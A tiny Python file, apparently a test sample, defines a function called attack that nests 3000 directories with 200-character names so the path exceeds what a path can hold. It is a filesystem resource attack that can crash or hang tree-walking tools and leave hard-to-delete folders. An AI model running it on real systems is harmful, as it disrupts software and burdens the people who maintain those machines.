"""Make folders within folders, deeper than a path can be long."""

import os


def attack() -> None:
    for _ in range(3000):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
